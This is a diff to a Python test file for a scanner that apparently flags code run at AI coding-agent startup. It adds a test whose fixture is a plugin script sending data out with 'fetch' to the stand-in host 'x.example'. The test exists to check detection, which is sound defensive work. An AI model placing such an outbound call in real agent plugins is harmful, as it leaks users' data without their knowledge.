@@ -418,7 +418,13 @@ def test_a_finding_spans_its_statement() -> None:
     assert finding.line is not None and finding.end_line is not None
     spanned = lines[finding.line - 1 : finding.end_line]
     assert "some-program" in "".join(spanned)
-    assert "hooks" not in "".join(spanned)
+    assert "timeout" not in "".join(spanned)
+
+
+def test_a_finding_in_a_script_stands_at_its_first_sign() -> None:
+    plugin = "export const size = 1;\n\nawait fetch('https://x.example', { body });\n"
+    (finding,) = found({}, {".opencode/plugin/a.ts": plugin})
+    assert (finding.rule, finding.line) == ("agent-start", 3)
 
 
 # Each row: a script before and after, and what is said of the start above it that did not change.
